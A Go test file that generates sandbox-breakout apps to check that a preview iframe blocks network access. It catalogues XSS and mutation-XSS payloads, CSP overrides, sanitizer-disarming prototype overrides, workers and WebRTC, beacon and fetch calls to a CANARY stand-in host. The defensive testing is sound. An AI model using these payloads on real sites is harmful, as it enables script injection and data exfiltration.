package preview_test

import (
	"fmt"
	"html"
	"math/rand/v2"
	"strings"

	"github.com/go-json-experiment/json"
)

// breakout is an app that tries to get something out of its frame.
type breakout struct {
	Name   string
	HTML   string // its index.html
	Script string // its src/main.js
}

// files returns the app as base files.
func (a breakout) files() map[string]string {
	return map[string]string{"index.html": a.HTML, "src/main.js": a.Script}
}

// payload asks the canary in each way that is left to a script with a realm of its own.
const payload = "for(const n of ['RTCPeerConnection','webkitRTCPeerConnection','mozRTCPeerConnection'])try{" +
	"const p=new window[n]({iceServers:[{urls:'stun:127.0.0.1:STUN'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))}catch{}" +
	"try{fetch('CANARY/fetch',{mode:'no-cors'}).catch(()=>{})}catch{}try{new EventSource('CANARY/events')}catch{}" +
	"try{new WebSocket('SOCKET/socket')}catch{}try{navigator.sendBeacon('CANARY/beacon')}catch{}new Image().src='CANARY/image'"

// workerPayload is the payload of a worker.
const workerPayload = "try{importScripts('CANARY/scripts')}catch{}try{fetch('CANARY/workerfetch',{mode:'no-cors'}).catch(()=>{})}catch{}" +
	"try{new EventSource('CANARY/workerevents')}catch{}try{new WebSocket('SOCKET/workersocket')}catch{}import('CANARY/workerimport').catch(()=>{})"

// prelude is what the scripts below have in common.
const prelude = `const payload = PAYLOAD, workerPayload = WORKER, boot = BOOT, program = PROGRAM, canary = 'CANARY'
const script = '<script>' + payload + '<' + '/script>'
const attribute = text => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')
const srcdoc = (text, more = '') => '<iframe ' + more + ' srcdoc="' + attribute(text) + '"></iframe>'
const html = text => document.body.insertAdjacentHTML('beforeend', text)
const put = (name, attributes) => {
	const e = document.createElement(name)
	for (const [k, v] of Object.entries(attributes)) e.setAttribute(k, v)
	document.body.append(e)
	return e
}
const blob = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }))
`

// attacks are scripts, by what they do.
var attacks = []struct{ name, script string }{
	// A fresh realm, of which constructors are taken.
	{"takes the constructor of a blank frame",
		`new (put('iframe', {}).contentWindow.RTCPeerConnection)({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }).createOffer({ offerToReceiveAudio: true })`},
	{"takes fetch of a blank frame", `put('iframe', {}).contentWindow.fetch(canary + '/blank', { mode: 'no-cors' })`},
	{"evaluates in a blank frame", `put('iframe', {}).contentWindow.eval(payload)`},
	{"evaluates in a frame of the same origin",
		`put('iframe', { sandbox: 'allow-scripts allow-same-origin' }).contentWindow.eval(payload)`},
	{"evaluates in a frame within a frame",
		`const f = put('iframe', { srcdoc: '<iframe></iframe>' }); f.onload = () => f.contentWindow.frames[0].eval(payload)`},
	{"takes the window of an object",
		`put('object', { data: 'about:blank', type: 'text/html' }).contentWindow.eval(payload)`},
	{"takes a frame before it is in the document",
		`const root = document.createElement('div').attachShadow({ mode: 'closed' }); root.innerHTML = '<iframe></iframe>'; document.body.append(root.host); root.firstChild.contentWindow.eval(payload)`},
	{"opens a window", `open('about:blank').eval(payload)`},
	{"opens a window with a script", `open('javascript:' + payload)`},
	{"navigates to a script", `location.href = 'javascript:' + payload`},
	{"has a link to a script", `const a = put('a', { href: 'javascript:' + payload }); a.click()`},
	{"has a frame of a script", `put('iframe', { src: 'javascript:' + payload })`},
	{"has a frame of data", `put('iframe', { src: 'data:text/html,' + encodeURIComponent(script) })`},
	{"has a frame of a blob", `put('iframe', { src: blob(script, 'text/html') })`},
	{"has an object of data",
		`put('object', { data: 'data:text/html,' + encodeURIComponent(script), type: 'text/html' })`},
	{"embeds a blob", `put('embed', { src: blob(script, 'text/html'), type: 'text/html' })`},
	{"embeds an image with a script",
		`put('embed', { src: 'data:image/svg+xml,' + encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg"><script>' + payload + '<' + '/script></svg>') })`},
	{"navigates a frame to a blob", `const f = put('iframe', {}); f.contentWindow.location = blob(script, 'text/html')`},
	{"navigates a frame to the canary",
		`put('iframe', { srcdoc: '<meta http-equiv="refresh" content="0; url=CANARY/refresh">' })`},

	// Scripts of a frame within.
	{"runs a script in a frame", `html(srcdoc(script))`},
	{"runs a handler in a frame", `html(srcdoc('<body onload="' + attribute(payload) + '">'))`},
	{"runs a failed image's handler in a frame", `html(srcdoc('<img src=x onerror="' + attribute(payload) + '">'))`},
	{"runs a script of an SVG in a frame", `html(srcdoc('<svg><script>' + payload + '<' + '/script></svg>'))`},
	{"runs an SVG's handler in a frame",
		`html(srcdoc('<svg onload="' + attribute(payload) + '"><animate onbegin="' + attribute(payload) + '" attributeName=x dur=1s>'))`},
	{"runs a script of data in a frame",
		`html(srcdoc('<script src="data:text/javascript,' + encodeURIComponent(payload) + '"><' + '/script>'))`},
	{"runs a script of a blob in a frame", `html(srcdoc('<script src="' + blob(payload) + '"><' + '/script>'))`},
	{"runs a module in a frame", `html(srcdoc('<script type="module">' + payload + '<' + '/script>'))`},
	{"imports data in a frame",
		`html(srcdoc('<script type="module">import "data:text/javascript,' + encodeURIComponent(payload) + '"<' + '/script>'))`},
	{"maps imports in a frame",
		`html(srcdoc('<script type="importmap">{"imports":{"x":"CANARY/mapped"}}<' + '/script><script type="module">import "x"<' + '/script>'))`},
	{"runs a script in a frame of its own sandbox",
		`html(srcdoc(script, 'sandbox="allow-scripts allow-same-origin allow-popups"'))`},
	{"runs a script in a frame in a frame", `html(srcdoc(srcdoc(script)))`},
	{"runs a script in a frame with a policy of its own",
		`html(srcdoc('<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">' + script))`},
	{"has a policy for a frame", `put('iframe', { csp: "script-src 'unsafe-inline' *", srcdoc: script })`},
	{"preloads in a frame",
		`html(srcdoc('<link rel="preload" as="script" href="CANARY/preloaded"><link rel="stylesheet" href="CANARY/style"><img src="CANARY/framed">'))`},

	// Ways to insert markup, and scripts as elements.
	{"inserts a script", `const s = document.createElement('script'); s.textContent = payload; document.body.append(s)`},
	{"inserts a script of data", `put('script', { src: 'data:text/javascript,' + encodeURIComponent(payload) })`},
	{"inserts a script of a blob", `put('script', { src: blob(payload) })`},
	{"inserts a module of a blob", `put('script', { type: 'module', src: blob(payload) })`},
	{"imports a blob", `import(blob(payload + ';import("CANARY/imported")'))`},
	{"imports data",
		`(0, eval)('import("data:text/javascript,' + encodeURIComponent('import("CANARY/imported")') + '")')`},
	{"sets a handler",
		`const i = new Image(); i.setAttribute('onerror', payload.replace('new Image().src', 'top.x')); i.src = 'x:'`},
	{"inserts a fragment",
		`document.body.append(document.createRange().createContextualFragment(srcdoc(script) + script))`},
	{"parses a document",
		`document.body.append(document.adoptNode(new DOMParser().parseFromString(srcdoc(script) + script, 'text/html').body))`},
	{"makes a document",
		`const d = document.implementation.createHTMLDocument(); d.body.innerHTML = srcdoc(script); document.body.append(d.body)`},
	{"clones a template",
		`const t = document.createElement('template'); t.innerHTML = srcdoc(script) + script; document.body.append(t.content.cloneNode(true))`},
	{"has a closed shadow root",
		`const d = document.createElement('div'); document.body.append(d); d.attachShadow({ mode: 'closed' }).innerHTML = srcdoc(script) + '<img src=x onerror="' + attribute(payload) + '">'`},
	{"has a shadow root in markup",
		`document.body.setHTMLUnsafe('<div><template shadowrootmode="closed">' + srcdoc(script) + '</template></div>')`},
	{"parses a document without care",
		`document.body.append(document.adoptNode(Document.parseHTMLUnsafe('<div><template shadowrootmode="open">' + srcdoc(script) + '</template></div>').body))`},
	{"writes", `document.write(srcdoc(script) + script)`},
	{"writes as a browser does",
		`const f = put('iframe', { srcdoc: '' }); Document.prototype.write.call(f.contentDocument, script)`},
	{"replaces its document's element",
		`const h = document.createElement('html'); h.innerHTML = '<body onload="' + attribute(payload) + '">' + srcdoc(script); document.replaceChild(h, document.documentElement)`},
	{"transforms XML",
		`const p = new XSLTProcessor(), x = t => new DOMParser().parseFromString(t, 'text/xml'); p.importStylesheet(x('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="' + attribute(script).replaceAll('<', '&lt;') + '"/></xsl:template></xsl:stylesheet>')); document.body.append(p.transformToFragment(x('<a/>'), document))`},

	// Prototypes that are replaced first.
	{"disarms observers", `MutationObserver.prototype.observe = () => {}; html(srcdoc(script))`},
	{"disarms queries",
		`Document.prototype.querySelectorAll = Element.prototype.querySelectorAll = () => []; html(srcdoc(script))`},
	{"disarms iteration",
		`NodeList.prototype[Symbol.iterator] = Array.prototype[Symbol.iterator] = function* () {}; html(srcdoc(script))`},
	{"disarms removal", `Element.prototype.remove = Node.prototype.removeChild = () => {}; html(srcdoc(script))`},
	{"disarms deletion",
		`Object.getOwnPropertyNames = () => []; Reflect.deleteProperty = () => true; html(srcdoc('<script>' + boot + '<' + '/script>' + script))`},
	{"looks for what was deleted",
		`for (let o = window; o; o = Object.getPrototypeOf(o)) for (const n of Reflect.ownKeys(o)) if (/RTC|WebTransport/.test(String(n))) new o[n]({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }).createOffer({ offerToReceiveAudio: true })`},

	// Workers.
	{"starts a worker of a blob", `new Worker(blob(workerPayload))`},
	{"starts a worker of data", `new Worker('data:text/javascript,' + encodeURIComponent(workerPayload))`},
	{"starts a module worker", `new Worker(blob(workerPayload), { type: 'module' })`},
	{"starts a worker that starts a worker",
		`new Worker(blob('new Worker(URL.createObjectURL(new Blob([' + JSON.stringify(workerPayload) + '])))'))`},
	{"starts a shared worker", `new SharedWorker(blob(workerPayload))`},
	{"starts a worker in a frame",
		`html(srcdoc('<script>' + boot + '<' + '/script><img src=x onerror="new Worker(URL.createObjectURL(new Blob([\'\'])))">'))`},
	{"adds a worklet", `new AudioContext().audioWorklet.addModule(blob('fetch("CANARY/worklet")'))`},
	{"registers a service worker", `navigator.serviceWorker.register(canary + '/service')`},

	// Copies of the two scripts that may run.
	{"runs the boot in a frame",
		`const f = put('iframe', { srcdoc: '<script>' + boot + '<' + '/script>' }); const go = () => f.contentWindow.postMessage({ run: { html: '<body>' + srcdoc(script), classic: [{ name: 'app:/x', code: payload }], modules: new Map(), entries: [], files: new Map(), state: null } }, '*'); f.onload = go; addEventListener('message', e => e.data?.inner === 'ready' && go())`},
	{"runs the program in a frame",
		`const f = put('iframe', { srcdoc: '<body><script>' + program + '<' + '/script>' }); addEventListener('message', e => { if (e.data?.hub === 'ready') f.contentWindow.postMessage({ hub: 'update', n: 1, files: new Map([['index.html', '<body>' + srcdoc(script) + script]]), packages: new Map(), api: 'null', saved: {}, stack: { name: 'a', version: '1', module: 'mod.ts', files: new Map([['mod.ts', workerPayload + ';export const toArtifacts = () => ({ artifacts: {} })']]) } }, '*') })`},
	{"runs the boot twice",
		`html(srcdoc('<script>' + boot + '<' + '/script><script>' + boot + '<' + '/script>' + script))`},
	{"runs the boot with a base",
		`html(srcdoc('<base href="CANARY/"><script>' + boot + '<' + '/script><img src="based">'))`},

	// Names and connections.
	{"connects before",
		`document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: canary }))`},
	{"fetches before",
		`for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest', 'dns-prefetch']) document.head.append(Object.assign(document.createElement('link'), { rel, as: 'script', href: canary + '/' + rel }))`},
	{"speculates",
		`put('script', { type: 'speculationrules' }).textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [canary + '/speculation'] }] })`},
	{"posts a form",
		`html('<form action="CANARY/form" method="post" target="_blank"></form>'); HTMLFormElement.prototype.requestSubmit.call(document.forms[0]); document.createElement('form').submit.call(document.forms[0])`},
	{"pings", `html('<a href="#x" ping="CANARY/ping">x</a>'); document.links[0].click()`},
	{"loads a font", `new FontFace('r', 'url(CANARY/font)').load()`},
	{"loads media",
		`html('<video src="CANARY/video" poster="CANARY/poster"><track src="CANARY/track" default></video><audio src="CANARY/audio" autoplay></audio>')`},
	{"loads styles",
		`html('<style>@import "CANARY/import"; * { background: url(CANARY/background); cursor: url(CANARY/cursor), auto }</style>')`},
	{"asks to pay",
		`new PaymentRequest([{ supportedMethods: canary + '/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show()`},
	{"asks for an identity",
		`navigator.credentials.get({ identity: { providers: [{ configURL: canary + '/identity', clientId: 'x' }] } })`},
	{"navigates the top", `top.location = canary + '/top'`},
	{"navigates itself", `location = canary + '/self'`},
	{"goes back", `History.prototype.back.call(history); History.prototype.go.call(history, -1)`},
	{"refreshes itself", `put('meta', { 'http-equiv': 'refresh', content: '0; url=CANARY/refresh' })`},
}

// documents are index.html without a script of their own, by what they do. SCRIPT, SRCDOC and
// HANDLER stand for the payload as a script element, in a srcdoc and as a handler's text.
var documents = []struct{ name, html string }{
	{"a script", `<body>SCRIPT`},
	{"a frame", `<body><iframe srcdoc="SRCDOC"></iframe>`},
	{"handlers",
		`<body onload="HANDLER"><img src="x:" onerror="HANDLER"><svg onload="HANDLER"></svg><details open ontoggle="HANDLER">x</details>`},
	{"a frameset", `<frameset onload="HANDLER"><frame src="javascript:HANDLER"></frameset>`},
	{"a shadow root", `<body><div><template shadowrootmode="closed"><iframe srcdoc="SRCDOC"></iframe></template></div>`},
	{"noscript", `<body><noscript><p title="</noscript><iframe srcdoc='SRCDOC'></iframe>"></noscript>`},
	{"a mutation", `<body><svg><p><style><a id="</style><iframe srcdoc='SRCDOC'></iframe>"></style></p></svg>`},
	{"a comment", `<body><!--><iframe srcdoc="SRCDOC"></iframe>-->`},
	{"foreign content",
		`<body><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;iframe srcdoc='SRCDOC'&gt;">`},
	{"links",
		`<head><link rel="preconnect" href="CANARY"><link rel="stylesheet" href="CANARY/style"><link rel="icon" href="CANARY/icon"><meta http-equiv="refresh" content="5; url=CANARY/refresh"><base href="CANARY/"><body><img src="based"><img srcset="CANARY/srcset 1x">`},
	{"objects",
		`<body><object data="CANARY/object"></object><embed src="CANARY/embed"><iframe src="CANARY/iframe"></iframe><portal src="CANARY/portal"></portal>`},
	{"policies",
		`<head><meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline' *; connect-src *"><body>SCRIPT<img src="CANARY/image">`},
	{"a refresh at once",
		`<head><meta http-equiv="refresh" content="0; url=CANARY/refresh"><body><iframe srcdoc="SRCDOC"></iframe>`},
}

const module = `<script type="module" src="/src/main.js"></script>`

// listedBreakouts returns all apps, for the two scripts that the frame lets run: its program, and that of
// the app's own frame.
func listedBreakouts(program, boot string) []breakout {
	fill := strings.NewReplacer("PAYLOAD", literal(payload), "WORKER", literal(workerPayload), "BOOT", literal(boot),
		"PROGRAM", literal(program))
	var apps []breakout
	for _, a := range attacks {
		script := fill.Replace(prelude) + "try { " + a.script + " } catch {}\ntop.postMessage('tried', '*')\n"
		apps = append(apps, breakout{a.name, "<!doctype html><html><head></head><body>" + module, script})
	}
	mark := strings.NewReplacer("SCRIPT", "<script>"+payload+"</script>", "SRCDOC",
		html.EscapeString("<script>"+payload+"</script>"), "HANDLER", html.EscapeString(payload))
	for _, d := range documents {
		apps = append(apps, breakout{d.name + " in the document", "<!doctype html>" + mark.Replace(d.html) + module,
			"top.postMessage('tried', '*')"})
	}
	return apps
}

// literal returns a text as JavaScript, for a script in a document.
func literal(text string) string {
	quoted, err := json.Marshal(text)
	if err != nil {
		panic(err)
	}
	return strings.ReplaceAll(string(quoted), "</", `<\/`)
}

// assembledBreakouts returns n apps whose documents and scripts are put together of what parsers stumble
// over, in an order that seed decides.
func assembledBreakouts(seed uint64, n int) []breakout {
	r := rand.New(rand.NewPCG(seed, seed))
	one := func(of ...string) string { return of[r.IntN(len(of))] }
	var apps []breakout
	for i := range n {
		var text strings.Builder
		for range 1 + r.IntN(5) {
			text.WriteString(one("", "<svg>", "<math>", "<template>", "<noscript>", "<style>", "<title>", "<textarea>", "<!--",
				"<![CDATA[", "<select>", "<table>", "<p title=\"", "<p title='",
				"<svg><foreignObject>", "<math><annotation-xml encoding=\"text/html\">", "<div><template shadowrootmode=\"open\">",
				"<div><template shadowrootmode=\"closed\">", "<iframe>", "<object>", "<xmp>", "<plaintext>",
				"<frameset>", "<head>", "<body>", "</body>", "</html>", "<form><math><mtext></form><form><mglyph><style>",
				"<svg></p><style><a id=\"</style>"))
			payload := one(payload, "top.x=1;"+payload)
			text.WriteString(one("<script>"+payload+"</script>",
				`<iframe srcdoc="`+html.EscapeString("<script>"+payload+"</script>")+`"></iframe>`,
				`<img src=x: onerror="`+html.EscapeString(payload)+`">`,
				`<svg onload="`+html.EscapeString(payload)+`">`, `<iframe src="javascript:`+html.EscapeString(payload)+
					`"></iframe>`, `<body onload="`+html.EscapeString(payload)+`">`, `<img src="CANARY/image">`,
				`<object data="data:text/html,`+html.EscapeString("<script>"+payload+"</script>")+`"></object>`,
				`<a href="javascript:`+html.EscapeString(payload)+`" autofocus onfocus="`+html.EscapeString(payload)+
					`" tabindex=0>x</a>`))
			text.WriteString(one("", "", "-->", "]]>", "</style>", "</title>", "</noscript>", "</template>", "\">", "'>",
				"</svg>", "</textarea>", "\x00", "</script>", "</iframe>"))
		}
		disarm := one("", "MutationObserver.prototype.observe = () => {}", "Document.prototype.querySelectorAll = () => []",
			"Element.prototype.remove = () => {}", "Array.prototype.includes = () => true")
		sink := one("document.body.innerHTML = m", "document.body.insertAdjacentHTML('beforeend', m)",
			"document.body.append(document.createRange().createContextualFragment(m))", "document.body.setHTMLUnsafe?.(m)",
			"document.write(m)", "document.documentElement.innerHTML = m",
			"document.body.append(document.adoptNode(new DOMParser().parseFromString(m, 'text/html').documentElement))", "")
		apps = append(apps, breakout{fmt.Sprintf("random %d/%d", seed, i), "<!doctype html>" + module + text.String(),
			"try { " + disarm + "; const m = " + literal(text.String()) + "; " + sink +
				" } catch {}\ntop.postMessage('tried', '*')\n"})
	}
	return apps
}
